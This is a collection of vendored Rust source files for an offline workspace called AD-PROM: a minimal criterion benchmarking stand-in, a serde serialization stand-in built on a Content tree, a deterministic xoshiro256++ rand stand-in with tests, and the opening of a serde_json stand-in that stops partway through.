                    if let Some(v) = args.next() {
                        if let Ok(secs) = v.parse::<f64>() {
                            if arg != "--warm-up-time" {
                                self.settings.measurement_time = Duration::from_secs_f64(secs);
                            }
                        }
                    }
                }
                "--sample-size" | "--save-baseline" | "--baseline" | "--load-baseline"
                | "--color" | "--output-format" => {
                    args.next();
                }
                "--test" => self.settings.test_mode = true,
                s if s.starts_with('-') => {}
                s => self.settings.filter = Some(s.to_string()),
            }
        }
        self
    }

    /// Overrides the per-benchmark measurement window.
    pub fn measurement_time(&mut self, t: Duration) -> &mut Criterion {
        self.settings.measurement_time = t;
        self
    }

    fn run_one(&self, id: &str, f: &mut dyn FnMut(&mut Bencher)) {
        if let Some(filter) = &self.settings.filter {
            if !id.contains(filter.as_str()) {
                return;
            }
        }
        let mut bencher = Bencher {
            measurement_time: self.settings.measurement_time,
            test_mode: self.settings.test_mode,
            best_ns_per_iter: None,
        };
        f(&mut bencher);
        match bencher.best_ns_per_iter {
            Some(_) if self.settings.test_mode => println!("{id}: ok (test mode)"),
            Some(ns) => println!("{id:<48} time: [{}]", format_ns(ns)),
            None => println!("{id}: no measurement recorded"),
        }
    }

    /// Runs a single named benchmark.
    pub fn bench_function<F: FnMut(&mut Bencher)>(&mut self, id: &str, mut f: F) -> &mut Criterion {
        self.run_one(id, &mut f);
        self
    }

    /// Opens a named group of related benchmarks.
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            criterion: self,
            name: name.into(),
        }
    }
}

/// A named collection of related benchmarks.
pub struct BenchmarkGroup<'a> {
    criterion: &'a mut Criterion,
    name: String,
}

impl BenchmarkGroup<'_> {
    /// Accepted for API compatibility; the stand-in is time-bounded, not
    /// sample-count-bounded.
    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    /// Overrides the measurement window for this group (and onward).
    pub fn measurement_time(&mut self, t: Duration) -> &mut Self {
        self.criterion.settings.measurement_time = t;
        self
    }

    /// Benchmarks `f` against a borrowed input.
    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut f: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let full = id.render(&self.name);
        self.criterion.run_one(&full, &mut |b| f(b, input));
        self
    }

    /// Benchmarks `f` under `group_name/id`.
    pub fn bench_function<F>(&mut self, id: impl Into<BenchmarkId>, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full = id.into().render(&self.name);
        self.criterion.run_one(&full, &mut f);
        self
    }

    /// Ends the group.
    pub fn finish(self) {}
}

/// Declares a benchmark group function callable from [`criterion_main!`].
#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $crate::Criterion::default().configure_from_args();
            $( $target(&mut criterion); )+
        }
    };
    (name = $name:ident; config = $config:expr; targets = $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut criterion = $config.configure_from_args();
            $( $target(&mut criterion); )+
        }
    };
}

/// Declares the benchmark binary's `main`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $( $group(); )+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    fn quick() -> Criterion {
        let mut c = Criterion::default();
        c.measurement_time(Duration::from_millis(5));
        c
    }

    #[test]
    fn bench_function_records_time() {
        let mut c = quick();
        c.bench_function("smoke/add", |b| b.iter(|| black_box(2u64) + black_box(3)));
    }

    #[test]
    fn group_with_input_and_batched() {
        let mut c = quick();
        let mut group = c.benchmark_group("smoke");
        group.sample_size(10);
        for n in [4usize, 8] {
            group.bench_with_input(BenchmarkId::from_parameter(n), &n, |b, &n| {
                b.iter_batched(
                    || vec![1u64; n],
                    |v| v.iter().sum::<u64>(),
                    BatchSize::SmallInput,
                );
            });
        }
        group.finish();
    }

    #[test]
    fn id_rendering() {
        assert_eq!(BenchmarkId::from_parameter(32).render("fw"), "fw/32");
        assert_eq!(BenchmarkId::new("f", "p").render("g"), "g/f/p");
        assert_eq!(BenchmarkId::from("f").render("g"), "g/f");
    }
}
