//! Offline stand-in for `serde`.
//!
//! The build environment has no access to crates.io, so this workspace
//! vendors a small serialization framework that keeps the parts of serde's
//! surface that AD-PROM relies on: the `Serialize` / `Deserialize` traits,
//! the same-named derive macros (re-exported from the vendored
//! `serde_derive`), and enough of the data model for `serde_json` to render
//! and parse it.
//!
//! Instead of serde's visitor architecture, values pass through a
//! self-describing intermediate [`Content`] tree (the same strategy serde
//! itself uses internally for untagged enums). Derived impls convert between
//! the user's type and `Content`; `serde_json` converts between `Content`
//! and text. Formats match serde's defaults: structs become maps, unit enum
//! variants become strings, data-carrying variants become externally tagged
//! single-entry maps.

#![warn(missing_docs)]

pub use serde_derive::{Deserialize, Serialize};

use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet, VecDeque};
use std::fmt;
use std::hash::{BuildHasher, Hash};

/// The self-describing intermediate value tree.
#[derive(Debug, Clone, PartialEq)]
pub enum Content {
    /// JSON `null` / `Option::None`.
    Null,
    /// Boolean.
    Bool(bool),
    /// Signed integer.
    I64(i64),
    /// Unsigned integer (used when the value exceeds `i64::MAX`).
    U64(u64),
    /// Floating point.
    F64(f64),
    /// String.
    Str(String),
    /// Sequence.
    Seq(Vec<Content>),
    /// Map (insertion-ordered key/value pairs).
    Map(Vec<(Content, Content)>),
}

/// Deserialization error: a human-readable path/expectation message.
#[derive(Debug, Clone, PartialEq)]
pub struct DeError(pub String);

impl DeError {
    /// Creates an error from anything displayable.
    pub fn msg(m: impl fmt::Display) -> DeError {
        DeError(m.to_string())
    }
}

impl fmt::Display for DeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for DeError {}

/// Serialization into the [`Content`] data model.
pub trait Serialize {
    /// Converts `self` into the data model.
    fn serialize(&self) -> Content;
}

/// Deserialization from the [`Content`] data model.
pub trait Deserialize: Sized {
    /// Reconstructs `Self` from the data model.
    fn deserialize(v: &Content) -> Result<Self, DeError>;
}

impl Content {
    /// The map entries, if this is a map.
    pub fn as_map(&self) -> Option<&[(Content, Content)]> {
        match self {
            Content::Map(m) => Some(m),
            _ => None,
        }
    }

    /// The sequence elements, if this is a sequence.
    pub fn as_seq(&self) -> Option<&[Content]> {
        match self {
            Content::Seq(s) => Some(s),
            _ => None,
        }
    }

    /// The string, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Content::Str(s) => Some(s),
            _ => None,
        }
    }

    /// Short name of the variant, for error messages.
    pub fn kind(&self) -> &'static str {
        match self {
            Content::Null => "null",
            Content::Bool(_) => "bool",
            Content::I64(_) | Content::U64(_) => "integer",
            Content::F64(_) => "float",
            Content::Str(_) => "string",
            Content::Seq(_) => "sequence",
            Content::Map(_) => "map",
        }
    }
}

// ---------------------------------------------------------------------------
// Helpers used by derive-generated code (public, hidden from docs).
// ---------------------------------------------------------------------------

/// Looks up a struct field by name and deserializes it.
#[doc(hidden)]
pub fn de_field<T: Deserialize>(map: &[(Content, Content)], name: &str) -> Result<T, DeError> {
    for (k, v) in map {
        if k.as_str() == Some(name) {
            return T::deserialize(v).map_err(|e| DeError(format!("field `{name}`: {e}")));
        }
    }
    Err(DeError(format!("missing field `{name}`")))
}

/// Looks up an *optional* struct field by name: a missing key (or an
/// explicit null) deserializes to `None` instead of erroring, so types can
/// grow optional fields while older serialized records keep parsing. Used
/// by hand-written impls; the derive stand-in has no `#[serde(default)]`.
pub fn de_field_opt<T: Deserialize>(
    map: &[(Content, Content)],
    name: &str,
) -> Result<Option<T>, DeError> {
    for (k, v) in map {
        if k.as_str() == Some(name) {
            return Option::<T>::deserialize(v)
                .map_err(|e| DeError(format!("field `{name}`: {e}")));
        }
    }
    Ok(None)
}

/// Deserializes element `idx` of a sequence.
#[doc(hidden)]
pub fn de_element<T: Deserialize>(seq: &[Content], idx: usize) -> Result<T, DeError> {
    match seq.get(idx) {
        Some(v) => T::deserialize(v).map_err(|e| DeError(format!("element {idx}: {e}"))),
        None => Err(DeError(format!(
            "sequence too short: no element {idx} (len {})",
            seq.len()
        ))),
    }
}

/// Extracts the `(variant_name, payload)` of an externally tagged enum
/// value: either a bare string (unit variant) or a single-entry map.
#[doc(hidden)]
pub fn de_variant(v: &Content) -> Result<(&str, Option<&Content>), DeError> {
    match v {
        Content::Str(s) => Ok((s, None)),
        Content::Map(m) if m.len() == 1 => match &m[0].0 {
            Content::Str(tag) => Ok((tag, Some(&m[0].1))),
            other => Err(DeError(format!(
                "enum tag must be a string, found {}",
                other.kind()
            ))),
        },
        other => Err(DeError(format!(
            "expected enum (string or single-entry map), found {}",
            other.kind()
        ))),
    }
}

fn int_from(v: &Content) -> Option<i128> {
    match v {
        Content::I64(n) => Some(*n as i128),
        Content::U64(n) => Some(*n as i128),
        // Accept floats with integral values (JSON writers may emit 1.0).
        Content::F64(f) if f.fract() == 0.0 && f.abs() < 2e18 => Some(*f as i128),
        _ => None,
    }
}

macro_rules! impl_int {
    ($($ty:ty => $variant:ident as $conv:ty),*) => {$(
        impl Serialize for $ty {
            fn serialize(&self) -> Content {
                Content::$variant(*self as $conv)
            }
        }
        impl Deserialize for $ty {
            fn deserialize(v: &Content) -> Result<Self, DeError> {
                let n = int_from(v)
                    .ok_or_else(|| DeError(format!("expected integer, found {}", v.kind())))?;
                <$ty>::try_from(n)
                    .map_err(|_| DeError(format!("integer {n} out of range for {}", stringify!($ty))))
            }
        }
    )*};
}

impl_int!(
    i8 => I64 as i64, i16 => I64 as i64, i32 => I64 as i64, i64 => I64 as i64,
    isize => I64 as i64,
    u8 => U64 as u64, u16 => U64 as u64, u32 => U64 as u64, u64 => U64 as u64,
    usize => U64 as u64
);

impl Serialize for f64 {
    fn serialize(&self) -> Content {
        Content::F64(*self)
    }
}

impl Deserialize for f64 {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        match v {
            Content::F64(f) => Ok(*f),
            Content::I64(n) => Ok(*n as f64),
            Content::U64(n) => Ok(*n as f64),
            // serde_json renders non-finite floats as null; mirror its
            // leniency in the other direction.
            Content::Null => Ok(f64::NAN),
            other => Err(DeError(format!("expected float, found {}", other.kind()))),
        }
    }
}

impl Serialize for f32 {
    fn serialize(&self) -> Content {
        Content::F64(f64::from(*self))
    }
}

impl Deserialize for f32 {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        f64::deserialize(v).map(|f| f as f32)
    }
}

impl Serialize for bool {
    fn serialize(&self) -> Content {
        Content::Bool(*self)
    }
}

impl Deserialize for bool {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        match v {
            Content::Bool(b) => Ok(*b),
            other => Err(DeError(format!("expected bool, found {}", other.kind()))),
        }
    }
}

impl Serialize for String {
    fn serialize(&self) -> Content {
        Content::Str(self.clone())
    }
}

impl Deserialize for String {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        match v {
            Content::Str(s) => Ok(s.clone()),
            other => Err(DeError(format!("expected string, found {}", other.kind()))),
        }
    }
}

impl Serialize for str {
    fn serialize(&self) -> Content {
        Content::Str(self.to_string())
    }
}

// Shared-string impls (serde gates these behind the `rc` feature).
impl Serialize for std::sync::Arc<str> {
    fn serialize(&self) -> Content {
        Content::Str(self.to_string())
    }
}

impl Deserialize for std::sync::Arc<str> {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        match v {
            Content::Str(s) => Ok(std::sync::Arc::from(s.as_str())),
            other => Err(DeError(format!("expected string, found {}", other.kind()))),
        }
    }
}

impl Serialize for char {
    fn serialize(&self) -> Content {
        Content::Str(self.to_string())
    }
}

impl Deserialize for char {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        let s = v
            .as_str()
            .ok_or_else(|| DeError(format!("expected char, found {}", v.kind())))?;
        let mut chars = s.chars();
        match (chars.next(), chars.next()) {
            (Some(c), None) => Ok(c),
            _ => Err(DeError(format!("expected single char, found {s:?}"))),
        }
    }
}

impl<T: Serialize + ?Sized> Serialize for &T {
    fn serialize(&self) -> Content {
        (**self).serialize()
    }
}

impl<T: Serialize + ?Sized> Serialize for Box<T> {
    fn serialize(&self) -> Content {
        (**self).serialize()
    }
}

impl<T: Deserialize> Deserialize for Box<T> {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        T::deserialize(v).map(Box::new)
    }
}

impl<T: Serialize> Serialize for Option<T> {
    fn serialize(&self) -> Content {
        match self {
            Some(v) => v.serialize(),
            None => Content::Null,
        }
    }
}

impl<T: Deserialize> Deserialize for Option<T> {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        match v {
            Content::Null => Ok(None),
            other => T::deserialize(other).map(Some),
        }
    }
}

fn ser_seq<'a, T: Serialize + 'a>(items: impl Iterator<Item = &'a T>) -> Content {
    Content::Seq(items.map(Serialize::serialize).collect())
}

fn de_seq<T: Deserialize, C: FromIterator<T>>(v: &Content) -> Result<C, DeError> {
    let seq = v
        .as_seq()
        .ok_or_else(|| DeError(format!("expected sequence, found {}", v.kind())))?;
    seq.iter().map(T::deserialize).collect()
}

impl<T: Serialize> Serialize for Vec<T> {
    fn serialize(&self) -> Content {
        ser_seq(self.iter())
    }
}

impl<T: Deserialize> Deserialize for Vec<T> {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        de_seq(v)
    }
}

impl<T: Serialize> Serialize for [T] {
    fn serialize(&self) -> Content {
        ser_seq(self.iter())
    }
}

impl<T: Serialize> Serialize for VecDeque<T> {
    fn serialize(&self) -> Content {
        ser_seq(self.iter())
    }
}

impl<T: Deserialize> Deserialize for VecDeque<T> {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        de_seq(v)
    }
}

impl<T: Serialize + Ord> Serialize for BTreeSet<T> {
    fn serialize(&self) -> Content {
        ser_seq(self.iter())
    }
}

impl<T: Deserialize + Ord> Deserialize for BTreeSet<T> {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        de_seq(v)
    }
}

impl<T: Serialize + Eq + Hash, S: BuildHasher> Serialize for HashSet<T, S> {
    fn serialize(&self) -> Content {
        ser_seq(self.iter())
    }
}

impl<T, S> Deserialize for HashSet<T, S>
where
    T: Deserialize + Eq + Hash,
    S: BuildHasher + Default,
{
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        de_seq(v)
    }
}

/// Map keys must render as JSON strings; strings pass through and integers
/// are stringified, matching `serde_json`'s behavior.
fn key_content<K: Serialize>(k: &K) -> Content {
    match k.serialize() {
        s @ Content::Str(_) => s,
        Content::I64(n) => Content::Str(n.to_string()),
        Content::U64(n) => Content::Str(n.to_string()),
        other => other,
    }
}

fn key_from<K: Deserialize>(k: &Content) -> Result<K, DeError> {
    if let Ok(key) = K::deserialize(k) {
        return Ok(key);
    }
    // Integer keys arrive as strings from JSON; retry through a parse.
    if let Some(s) = k.as_str() {
        if let Ok(n) = s.parse::<i64>() {
            return K::deserialize(&Content::I64(n));
        }
        if let Ok(n) = s.parse::<u64>() {
            return K::deserialize(&Content::U64(n));
        }
    }
    Err(DeError(format!("unusable map key {k:?}")))
}

fn ser_map<'a, K, V>(entries: impl Iterator<Item = (&'a K, &'a V)>) -> Content
where
    K: Serialize + 'a,
    V: Serialize + 'a,
{
    Content::Map(
        entries
            .map(|(k, v)| (key_content(k), v.serialize()))
            .collect(),
    )
}

fn de_map<K, V, C>(v: &Content) -> Result<C, DeError>
where
    K: Deserialize,
    V: Deserialize,
    C: FromIterator<(K, V)>,
{
    let map = v
        .as_map()
        .ok_or_else(|| DeError(format!("expected map, found {}", v.kind())))?;
    map.iter()
        .map(|(k, val)| Ok((key_from(k)?, V::deserialize(val)?)))
        .collect()
}

impl<K: Serialize + Ord, V: Serialize> Serialize for BTreeMap<K, V> {
    fn serialize(&self) -> Content {
        ser_map(self.iter())
    }
}

impl<K: Deserialize + Ord, V: Deserialize> Deserialize for BTreeMap<K, V> {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        de_map::<K, V, _>(v)
    }
}

impl<K, V, S> Serialize for HashMap<K, V, S>
where
    K: Serialize + Eq + Hash,
    V: Serialize,
    S: BuildHasher,
{
    fn serialize(&self) -> Content {
        ser_map(self.iter())
    }
}

impl<K, V, S> Deserialize for HashMap<K, V, S>
where
    K: Deserialize + Eq + Hash,
    V: Deserialize,
    S: BuildHasher + Default,
{
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        de_map::<K, V, _>(v)
    }
}

macro_rules! impl_tuple {
    ($(($($name:ident : $idx:tt),+))*) => {$(
        impl<$($name: Serialize),+> Serialize for ($($name,)+) {
            fn serialize(&self) -> Content {
                Content::Seq(vec![$(self.$idx.serialize()),+])
            }
        }
        impl<$($name: Deserialize),+> Deserialize for ($($name,)+) {
            fn deserialize(v: &Content) -> Result<Self, DeError> {
                let seq = v.as_seq()
                    .ok_or_else(|| DeError(format!("expected tuple, found {}", v.kind())))?;
                Ok(($(de_element::<$name>(seq, $idx)?,)+))
            }
        }
    )*};
}

impl_tuple! {
    (A: 0)
    (A: 0, B: 1)
    (A: 0, B: 1, C: 2)
    (A: 0, B: 1, C: 2, D: 3)
}

impl Serialize for () {
    fn serialize(&self) -> Content {
        Content::Null
    }
}

impl Deserialize for () {
    fn deserialize(v: &Content) -> Result<Self, DeError> {
        match v {
            Content::Null => Ok(()),
            other => Err(DeError(format!("expected null, found {}", other.kind()))),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn primitives_round_trip() {
        assert_eq!(i64::deserialize(&42i64.serialize()), Ok(42));
        assert_eq!(usize::deserialize(&7usize.serialize()), Ok(7));
        assert_eq!(f64::deserialize(&1.5f64.serialize()), Ok(1.5));
        assert_eq!(bool::deserialize(&true.serialize()), Ok(true));
        assert_eq!(
            String::deserialize(&"hi".to_string().serialize()),
            Ok("hi".to_string())
        );
    }

    #[test]
    fn collections_round_trip() {
        let v = vec![1u32, 2, 3];
        assert_eq!(Vec::<u32>::deserialize(&v.serialize()), Ok(v));
        let mut m = BTreeMap::new();
        m.insert("k".to_string(), vec![1.0f64, 2.0]);
        assert_eq!(
            BTreeMap::<String, Vec<f64>>::deserialize(&m.serialize()),
            Ok(m)
        );
        let s: BTreeSet<String> = ["a", "b"].iter().map(|s| s.to_string()).collect();
        assert_eq!(BTreeSet::<String>::deserialize(&s.serialize()), Ok(s));
    }

    #[test]
    fn option_and_nesting() {
        let x: Option<Vec<Option<u8>>> = Some(vec![Some(1), None]);
        assert_eq!(
            Option::<Vec<Option<u8>>>::deserialize(&x.serialize()),
            Ok(x)
        );
        assert_eq!(Option::<u8>::deserialize(&Content::Null), Ok(None));
    }

    #[test]
    fn signed_range_checks() {
        assert!(u8::deserialize(&Content::I64(300)).is_err());
        assert!(u32::deserialize(&Content::I64(-1)).is_err());
        assert_eq!(u64::deserialize(&Content::U64(u64::MAX)), Ok(u64::MAX));
    }

    #[test]
    fn missing_field_reports_name() {
        let m = Content::Map(vec![(Content::Str("a".into()), Content::I64(1))]);
        let err = de_field::<i64>(m.as_map().unwrap(), "b").unwrap_err();
        assert!(err.0.contains("missing field `b`"));
    }
}
