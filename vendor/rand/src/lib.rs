//! Offline stand-in for the `rand` crate.
//!
//! The build environment has no access to crates.io, so this workspace
//! vendors a minimal, deterministic implementation of the slice of the
//! `rand` 0.8 API that AD-PROM uses: `StdRng` (seeded via
//! [`SeedableRng::seed_from_u64`]), [`Rng::gen_range`] over integer and
//! float ranges, [`Rng::gen_bool`], and [`seq::SliceRandom::shuffle`].
//!
//! The generator is xoshiro256++ seeded through SplitMix64 — statistically
//! solid for simulation workloads and fully deterministic per seed, which is
//! all the test suites and synthetic workloads require. The value streams
//! differ from upstream `rand`'s `StdRng` (ChaCha12); nothing in this
//! repository depends on the upstream streams.

#![warn(missing_docs)]

use std::ops::{Range, RangeInclusive};

/// Low-level entropy source: a stream of `u64`s.
pub trait RngCore {
    /// Returns the next 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// Returns the next 32 random bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }
}

/// Construction of a generator from seed material.
pub trait SeedableRng: Sized {
    /// Creates a generator from a 64-bit seed (always available, unlike
    /// upstream where it is provided by the trait for every seed size).
    fn seed_from_u64(seed: u64) -> Self;
}

/// SplitMix64, used to expand a 64-bit seed into generator state.
fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9E37_79B9_7F4A_7C15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// High-level sampling methods, implemented for every [`RngCore`].
pub trait Rng: RngCore {
    /// Samples a value uniformly from `range` (half-open or inclusive
    /// integer ranges, half-open float ranges). Panics on empty ranges.
    fn gen_range<T, R>(&mut self, range: R) -> T
    where
        R: SampleRange<T>,
    {
        range.sample_from(self)
    }

    /// Returns `true` with probability `p`. Panics unless `0 ≤ p ≤ 1`.
    fn gen_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "gen_bool: p = {p} out of range");
        unit_f64(self.next_u64()) < p
    }
}

impl<T: RngCore + ?Sized> Rng for T {}

/// Maps 64 random bits to a uniform `f64` in `[0, 1)`.
fn unit_f64(bits: u64) -> f64 {
    (bits >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
}

/// Uniform sampling from a range type, mirroring `rand::distributions`'s
/// `SampleRange` entry point.
pub trait SampleRange<T> {
    /// Draws one value from the range.
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

/// Unbiased integer sampling in `[0, bound)` via Lemire's method.
fn uniform_below<R: RngCore + ?Sized>(rng: &mut R, bound: u64) -> u64 {
    assert!(bound > 0, "empty sampling bound");
    loop {
        let x = rng.next_u64();
        let m = (x as u128).wrapping_mul(bound as u128);
        let low = m as u64;
        if low >= bound || low >= bound.wrapping_neg() % bound {
            return (m >> 64) as u64;
        }
    }
}

/// Types uniformly sampleable from a range. The blanket [`SampleRange`]
/// impls below hang off this trait (one impl per range *shape*, not per
/// element type) so `gen_range(0..12)` pins `T` to the range's element
/// type during inference — matching upstream `rand`'s behaviour for
/// untyped integer literals.
pub trait SampleUniform: Sized + PartialOrd {
    /// Draws from `[low, high)` (`inclusive == false`) or `[low, high]`.
    fn sample_in<R: RngCore + ?Sized>(rng: &mut R, low: Self, high: Self, inclusive: bool) -> Self;
}

macro_rules! impl_sample_uniform_int {
    ($($ty:ty),*) => {$(
        impl SampleUniform for $ty {
            fn sample_in<R: RngCore + ?Sized>(
                rng: &mut R,
                low: $ty,
                high: $ty,
                inclusive: bool,
            ) -> $ty {
                if inclusive {
                    assert!(low <= high, "gen_range: empty range");
                    let span = (high as i128 - low as i128) as u128 + 1;
                    if span > u64::MAX as u128 {
                        // Whole-domain u64/i64 range: every value is valid.
                        return rng.next_u64() as $ty;
                    }
                    (low as i128 + uniform_below(rng, span as u64) as i128) as $ty
                } else {
                    assert!(low < high, "gen_range: empty range");
                    let span = (high as i128 - low as i128) as u64;
                    (low as i128 + uniform_below(rng, span) as i128) as $ty
                }
            }
        }
    )*};
}

impl_sample_uniform_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl SampleUniform for f64 {
    fn sample_in<R: RngCore + ?Sized>(rng: &mut R, low: f64, high: f64, inclusive: bool) -> f64 {
        if inclusive {
            assert!(low <= high, "gen_range: empty range");
        } else {
            assert!(low < high, "gen_range: empty range");
        }
        low + unit_f64(rng.next_u64()) * (high - low)
    }
}

impl SampleUniform for f32 {
    fn sample_in<R: RngCore + ?Sized>(rng: &mut R, low: f32, high: f32, inclusive: bool) -> f32 {
        if inclusive {
            assert!(low <= high, "gen_range: empty range");
        } else {
            assert!(low < high, "gen_range: empty range");
        }
        low + (unit_f64(rng.next_u64()) as f32) * (high - low)
    }
}

impl<T: SampleUniform> SampleRange<T> for Range<T> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        T::sample_in(rng, self.start, self.end, false)
    }
}

impl<T: SampleUniform> SampleRange<T> for RangeInclusive<T> {
    fn sample_from<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        let (low, high) = self.into_inner();
        T::sample_in(rng, low, high, true)
    }
}

/// Generator implementations.
pub mod rngs {
    use super::{splitmix64, RngCore, SeedableRng};

    /// The standard deterministic generator: xoshiro256++.
    #[derive(Debug, Clone)]
    pub struct StdRng {
        s: [u64; 4],
    }

    impl SeedableRng for StdRng {
        fn seed_from_u64(seed: u64) -> StdRng {
            let mut sm = seed;
            let mut s = [0u64; 4];
            for slot in &mut s {
                *slot = splitmix64(&mut sm);
            }
            // All-zero state would be a fixed point; SplitMix64 cannot
            // produce four zeros from any seed, but keep the guard explicit.
            if s == [0, 0, 0, 0] {
                s[0] = 0x9E37_79B9_7F4A_7C15;
            }
            StdRng { s }
        }
    }

    impl RngCore for StdRng {
        fn next_u64(&mut self) -> u64 {
            let s = &mut self.s;
            let result = s[0].wrapping_add(s[3]).rotate_left(23).wrapping_add(s[0]);
            let t = s[1] << 17;
            s[2] ^= s[0];
            s[3] ^= s[1];
            s[1] ^= s[2];
            s[0] ^= s[3];
            s[2] ^= t;
            s[3] = s[3].rotate_left(45);
            result
        }
    }
}

/// Sequence-related helpers (`SliceRandom`).
pub mod seq {
    use super::{uniform_below, Rng};

    /// Shuffling and random selection on slices.
    pub trait SliceRandom {
        /// Element type.
        type Item;

        /// Fisher–Yates shuffle, in place.
        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R);

        /// Uniformly chosen reference, `None` on an empty slice.
        fn choose<'a, R: Rng + ?Sized>(&'a self, rng: &mut R) -> Option<&'a Self::Item>;
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn shuffle<R: Rng + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = uniform_below(rng, i as u64 + 1) as usize;
                self.swap(i, j);
            }
        }

        fn choose<'a, R: Rng + ?Sized>(&'a self, rng: &mut R) -> Option<&'a T> {
            if self.is_empty() {
                None
            } else {
                Some(&self[uniform_below(rng, self.len() as u64) as usize])
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::StdRng;
    use super::seq::SliceRandom;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_per_seed() {
        let mut a = StdRng::seed_from_u64(7);
        let mut b = StdRng::seed_from_u64(7);
        let mut c = StdRng::seed_from_u64(8);
        let va: Vec<u32> = (0..8).map(|_| a.gen_range(0..1000u32)).collect();
        let vb: Vec<u32> = (0..8).map(|_| b.gen_range(0..1000u32)).collect();
        let vc: Vec<u32> = (0..8).map(|_| c.gen_range(0..1000u32)).collect();
        assert_eq!(va, vb);
        assert_ne!(va, vc);
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = StdRng::seed_from_u64(42);
        for _ in 0..2000 {
            let x = rng.gen_range(3..9);
            assert!((3..9).contains(&x));
            let y = rng.gen_range(1..=6u32);
            assert!((1..=6).contains(&y));
            let f = rng.gen_range(0.25..0.75);
            assert!((0.25..0.75).contains(&f));
            let n: i64 = rng.gen_range(-5..5);
            assert!((-5..5).contains(&n));
        }
    }

    #[test]
    fn gen_range_is_roughly_uniform() {
        let mut rng = StdRng::seed_from_u64(1);
        let mut counts = [0usize; 10];
        for _ in 0..10_000 {
            counts[rng.gen_range(0..10usize)] += 1;
        }
        for &c in &counts {
            assert!((700..1300).contains(&c), "skewed bucket: {counts:?}");
        }
    }

    #[test]
    fn gen_bool_matches_probability() {
        let mut rng = StdRng::seed_from_u64(5);
        let hits = (0..10_000).filter(|_| rng.gen_bool(0.3)).count();
        assert!((2700..3300).contains(&hits), "p=0.3 gave {hits}/10000");
    }

    #[test]
    fn shuffle_permutes() {
        let mut rng = StdRng::seed_from_u64(11);
        let mut v: Vec<usize> = (0..50).collect();
        v.shuffle(&mut rng);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
        assert_ne!(v, sorted, "50 elements staying sorted is ~impossible");
    }
}
