//! Offline stand-in for `serde_json`.
//!
//! Renders and parses JSON against the vendored `serde` stand-in's
//! [`Content`] data model. Covers the workspace's surface: [`to_string`],
//! [`to_string_pretty`], [`from_str`], [`to_vec`], and [`Error`].
//!
//! Behavioral notes kept compatible with upstream `serde_json`:
//! non-finite floats render as `null`; map keys always render as strings;
//! floats print with Rust's shortest round-trip formatting.

#![warn(missing_docs)]

use serde::{Content, DeError, Deserialize, Serialize};
use std::fmt;

/// JSON (de)serialization error.
#[derive(Debug)]
pub struct Error(String);

impl Error {
    fn new(msg: impl fmt::Display) -> Error {
        Error(msg.to_string())
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

impl std::error::Error for Error {}

impl From<DeError> for Error {
    fn from(e: DeError) -> Error {
        Error(e.0)
    }
}

/// Serializes a value to compact JSON.
pub fn to_string<T: Serialize + ?Sized>(value: &T) -> Result<String, Error> {
    let mut out = String::new();
    write_content(&mut out, &value.serialize(), None, 0);
    Ok(out)
}

/// Serializes a value to two-space-indented JSON.
pub fn to_string_pretty<T: Serialize + ?Sized>(value: &T) -> Result<String, Error> {
    let mut out = String::new();
    write_content(&mut out, &value.serialize(), Some(2), 0);
    Ok(out)
}

/// Serializes a value to JSON bytes.
pub fn to_vec<T: Serialize + ?Sized>(value: &T) -> Result<Vec<u8>, Error> {
    to_string(value).map(String::into_bytes)
}

/// Deserializes a value from JSON text.
